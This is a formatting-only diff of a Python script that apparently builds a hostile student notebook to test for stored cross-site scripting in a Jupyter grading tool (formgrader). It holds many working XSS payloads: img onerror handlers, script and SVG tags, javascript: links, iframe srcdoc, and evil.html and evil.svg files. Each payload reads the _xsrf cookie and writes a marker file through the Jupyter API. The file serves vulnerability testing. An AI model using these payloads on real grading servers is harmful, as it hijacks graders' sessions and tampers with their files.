@@ -5,6 +5,7 @@ and writes `pwned-<name>.txt` into the course through the Jupyter API with the p
 the issue describes). Code cells are appended to the notebook (their outputs are what autograde stores),
 markdown goes into the hand-graded written answer and into a new markdown cell, and a raw cell is added.
 """
+
 from __future__ import annotations
 
 import base64
@@ -16,10 +17,12 @@ TRACE = "PWNED:"
 
 def run(name: str) -> str:
     """JavaScript that leaves the traces above; single quotes only, so it fits in any double-quoted attribute."""
-    return (f"console.log('{TRACE}{name}');document.title='{TRACE}{name}';"
-            f"fetch('/api/contents/pwned-{name}.txt',{{method:'PUT',headers:{{'X-XSRFToken':"
-            f"(document.cookie.match(/_xsrf=([^;]*)/)||[0,''])[1]}},"
-            f"body:JSON.stringify({{type:'file',format:'text',content:'{name}'}})}})")
+    return (
+        f"console.log('{TRACE}{name}');document.title='{TRACE}{name}';"
+        f"fetch('/api/contents/pwned-{name}.txt',{{method:'PUT',headers:{{'X-XSRFToken':"
+        f"(document.cookie.match(/_xsrf=([^;]*)/)||[0,''])[1]}},"
+        f"body:JSON.stringify({{type:'file',format:'text',content:'{name}'}})}})"
+    )
 
 
 def b64(text: str) -> str:
@@ -54,33 +57,57 @@ RAW_OUTPUTS = {
     "javascript-output": ("application/javascript", run("javascript-output")),
     "svg-output-onload": ("image/svg+xml", svg(f'onload="{run("svg-output-onload")}"')),
     "svg-output-script": ("image/svg+xml", svg(inner=f"<script>{run('svg-output-script')}</script>")),
-    "markdown-output": ("text/markdown", f'[a markdown link](javascript:{run("markdown-output")}) '
-                                         f'<img src="x" onerror="{run("markdown-output-img")}">'),
+    "markdown-output": (
+        "text/markdown",
+        f'[a markdown link](javascript:{run("markdown-output")}) <img src="x" onerror="{run("markdown-output-img")}">',
+    ),
 }
-WRITTEN_ANSWER = (f"My answer, with maths $\\eta_t = \\eta_0 \\gamma^t$ kept readable.\n\n"
-                  f'<img src="x" onerror="{run("written-img-onerror")}">\n\n'
-                  f"<script>{run('written-script')}</script>\n\n"
-                  f"[a markdown link](javascript:{run('written-javascript-link')})\n")
-MARKDOWN_CELL = (f'<iframe srcdoc="<script>{run("markdown-iframe-srcdoc")}</script>"></iframe>\n\n'
-                 f'<a href="javascript:{run("markdown-html-link")}">an HTML link in markdown</a>\n\n'
-                 f'<svg><script>{run("markdown-svg-script")}</script></svg>\n')
+WRITTEN_ANSWER = (
+    f"My answer, with maths $\\eta_t = \\eta_0 \\gamma^t$ kept readable.\n\n"
+    f'<img src="x" onerror="{run("written-img-onerror")}">\n\n'
+    f"<script>{run('written-script')}</script>\n\n"
+    f"[a markdown link](javascript:{run('written-javascript-link')})\n"
+)
+MARKDOWN_CELL = (
+    f'<iframe srcdoc="<script>{run("markdown-iframe-srcdoc")}</script>"></iframe>\n\n'
+    f'<a href="javascript:{run("markdown-html-link")}">an HTML link in markdown</a>\n\n'
+    f"<svg><script>{run('markdown-svg-script')}</script></svg>\n"
+)
 RAW_CELL = f"<script>{run('raw-cell-script')}</script>"
 WIDGET = "widget-html"
 # files next to the notebook: formgrader serves them from the autograded folder
-FILES = {"evil.html": f"<script>{run('file-html')}</script>",
-         "evil.svg": svg(f'onload="{run("file-svg")}"')}
-VECTORS = (sorted(HTML_OUTPUTS) + sorted(RAW_OUTPUTS) + ["markdown-output-img", WIDGET, "written-img-onerror",
-           "written-script", "written-javascript-link", "markdown-iframe-srcdoc", "markdown-html-link",
-           "markdown-svg-script", "raw-cell-script", "file-html", "file-svg"])
+FILES = {"evil.html": f"<script>{run('file-html')}</script>", "evil.svg": svg(f'onload="{run("file-svg")}"')}
+VECTORS = (
+    sorted(HTML_OUTPUTS)
+    + sorted(RAW_OUTPUTS)
+    + [
+        "markdown-output-img",
+        WIDGET,
+        "written-img-onerror",
+        "written-script",
+        "written-javascript-link",
+        "markdown-iframe-srcdoc",
+        "markdown-html-link",
+        "markdown-svg-script",
+        "raw-cell-script",
+        "file-html",
+        "file-svg",
+    ]
+)
 
 
 def hostile_cells() -> list:
     """The cells a hostile student appends to an otherwise honest notebook."""
     code = ["from IPython.display import HTML, display"]
     code += [f"display(HTML({markup!r}))" for markup in HTML_OUTPUTS.values()]
-    code += [f"display({{{mimetype!r}: {data!r}, 'text/plain': 'x'}}, raw=True)"
-             for mimetype, data in RAW_OUTPUTS.values()]
+    code += [
+        f"display({{{mimetype!r}: {data!r}, 'text/plain': 'x'}}, raw=True)" for mimetype, data in RAW_OUTPUTS.values()
+    ]
     widget = f"import ipywidgets\ndisplay(ipywidgets.HTML({HTML_OUTPUTS['html-img-onerror'].replace('html-img-onerror', WIDGET)!r}))"
     raw = nbformat.v4.new_raw_cell(RAW_CELL, metadata={"raw_mimetype": "text/html"})
-    return [nbformat.v4.new_code_cell("\n".join(code)), nbformat.v4.new_code_cell(widget),
-            nbformat.v4.new_markdown_cell(MARKDOWN_CELL), raw]
+    return [
+        nbformat.v4.new_code_cell("\n".join(code)),
+        nbformat.v4.new_code_cell(widget),
+        nbformat.v4.new_markdown_cell(MARKDOWN_CELL),
+        raw,
+    ]
